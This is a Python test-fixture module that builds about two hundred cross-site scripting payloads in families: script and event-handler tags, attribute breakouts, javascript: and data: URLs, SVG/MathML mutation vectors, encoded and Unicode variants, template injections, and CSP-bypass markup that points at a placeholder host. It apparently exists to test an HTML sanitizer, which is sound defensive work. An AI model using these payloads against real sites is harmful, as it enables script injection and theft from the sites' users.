"""Two hundred ways to make words run, built by families; each would raise a dialog if a page let it."""

from itertools import product

RUN = "alert(1)"
EVENTS = ("onerror", "onload", "onclick", "onfocus", "onmouseover", "ontoggle", "onanimationstart", "onpointerrawupdate",
          "onbeforetoggle", "onscrollend")  # fmt: skip
BREAKS = ('"', "'", "`", '">', "'>", "</textarea>", "</title>", "</option></select>", "</script>", "</style>", "-->", "]]>",
          "*/", "\n", "&quot;>")  # fmt: skip
LEADS = ("javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", "&#106;avascript:", "&#x6A;avascript:", "\x01javascript:",
         " javascript:", "vbscript:", "data:text/html,", "data:text/html;base64,", "data:image/svg+xml,")  # fmt: skip

TAGS = [
    f"<{tag}{end}"
    for tag, end in product(("script", "ScRiPt", "script ", "script/x"), (f">{RUN}</script>", f">{RUN}//"))
]
TAGS += [
    f"<script src={where}></script>"
    for where in (
        "//elsewhere.example/a.js",
        "data:,alert(1)",
        "/static/throughline/app.js?alert(1)",
        "blob:x",
    )
]
TAGS += [
    f"<{tag} {event}={RUN} autofocus tabindex=1 src=x>x"
    for tag, event in product(("img", "svg", "input", "details open"), EVENTS)
]
TAGS += [
    f"<{tag} {event}={RUN}>"
    for tag, event in zip(
        ("body", "video", "audio", "iframe", "marquee", "object", "embed", "form", "select", "a"),
        EVENTS,
        strict=True,
    )
]
ATTRIBUTES = [
    f"{end}{gap}{event}={RUN} x=" for end, gap, event in product(BREAKS[:5], (" ", "/"), EVENTS[:3])
]
BROKEN_OUT = [f"{end}<img src=x onerror={RUN}>" for end in BREAKS]
ADDRESSES = [f'<a href="{lead}{RUN}">x</a>' for lead in LEADS] + [f"{lead}{RUN}" for lead in LEADS]
DRAWN = [
    f"<svg><script>{RUN}</script></svg>", f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{RUN}'><text>x</text></a></svg>", f"<svg><use href='data:image/svg+xml,<svg id=x onload={RUN}>#x'>",
    f"<svg><foreignObject><iframe srcdoc='<script>{RUN}</script>'>", f"<svg/onload={RUN}>", f"<svg><style><img src=x onerror={RUN}>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>", f"<math href='javascript:{RUN}'>x</math>",
    f"<math><maction actiontype='statusline#{RUN}'>x", f"<svg><set attributeName=onmouseover to={RUN}>",
]  # fmt: skip
ENTITIES = [
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;", "&#x3c;img src=x onerror=alert(1)&#x3e;",
    "%3Cscript%3Ealert(1)%3C/script%3E", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", "\\x3cscript\\x3ealert(1)",
    "&amp;lt;script&amp;gt;alert(1)", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "&lt&excl;--<script>alert(1)</script>", "&NewLine;<script>alert(1)</script>",
]  # fmt: skip
TEMPLATES = [
    "{{constructor.constructor('alert(1)')()}}", "{{7*7}}{% include 'x' %}", "{% autoescape off %}<script>alert(1)</script>{% endautoescape %}",
    "${alert(1)}", "<%= alert(1) %>", "#{alert(1)}", "[[${alert(1)}]]", "{{'a'.constructor.prototype.charAt=[].join;$eval('x=alert(1)')}}",
    "<template><script>alert(1)</script></template>", "<div v-html='alert(1)'>", "<div x-data x-init='alert(1)'>",
]  # fmt: skip
UNICODE = [
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e", "\u2039script\u203aalert(1)", "<scr\u200bipt>alert(1)</script>",
    "<img\u3000src=x onerror=alert(1)>", "<\u017fcript>alert(1)</\u017fcript>", "\u202e<script>alert(1)</script>",
    "<img src=x o\u0131nerror=alert(1)>", "\ufeff<script>alert(1)</script>", "<svg\u2028onload=alert(1)>", "<\u02cescript>alert(1)",
    "\u00bcscript\u00bealert(1)\u00bc/script\u00be", "<a href='\u2028javascript:alert(1)'>x</a>", "<img src=x onerror\u000b=alert(1)>",
]  # fmt: skip
ROUND_THE_POLICY = [
    "<base href=//elsewhere.example/>", "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src *\">", "<link rel=stylesheet href=//elsewhere.example/a.css>",
    "<link rel=import href=//elsewhere.example>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<object data=data:text/html,x>",
    "<form action=//elsewhere.example><button>x</button></form>", "<button formaction=javascript:alert(1)>x</button>",
    "<div hx-get=/static/throughline/app.js hx-trigger=load>", "<div hx-on:load=alert(1) data-hx-on:load=alert(1)>",
    "<div hx-vals='js:{a:alert(1)}' hx-post=/x hx-trigger=load>", "<form data-autosave=//elsewhere.example><input>",
    "<div data-url='javascript:alert(1)' role=option id=found>", "<dialog id=cover open>x</dialog>", "<style>@import'//elsewhere.example'</style>",
    "<style>*{background:url(//elsewhere.example)}</style>", "<img name=body><img name=getElementById>", "<form id=find><input name=q></form>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<plaintext>", "<xmp><p title='</xmp><svg onload=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->", "<![CDATA[<script>alert(1)</script>]]>", "<?xml-stylesheet href=javascript:alert(1)?>",
    "<isindex type=image src=1 onerror=alert(1)>", "<keygen autofocus onfocus=alert(1)>", "<portal src=javascript:alert(1)>",
    "<iframe src=javascript:alert(1)>", "<frameset onload=alert(1)>", "<input type=image src=x onerror=alert(1)>", "<p style=behavior:url(x)>",
]  # fmt: skip
SCHEMES_IN_WORDS = [
    "[x](javascript:alert(1))",
    "![x](x onerror=alert(1))",
    "<javascript:alert(1)>",
    "*<b>x</b>*",
    "[url=javascript:alert(1)]x[/url]",
]

FAMILIES = {
    "tags": TAGS, "attributes": ATTRIBUTES, "broken out": BROKEN_OUT, "addresses": ADDRESSES, "drawings": DRAWN,
    "entities": ENTITIES, "templates": TEMPLATES, "unicode": UNICODE, "round the policy": ROUND_THE_POLICY,
    "markup in words": SCHEMES_IN_WORDS,
}  # fmt: skip
PAYLOADS = [payload for family in FAMILIES.values() for payload in family]
SHORT = [payload for family in FAMILIES.values() for payload in (family[0], family[-1])]
"""Two of each family: what `make test` tries. `make prove` tries them all."""
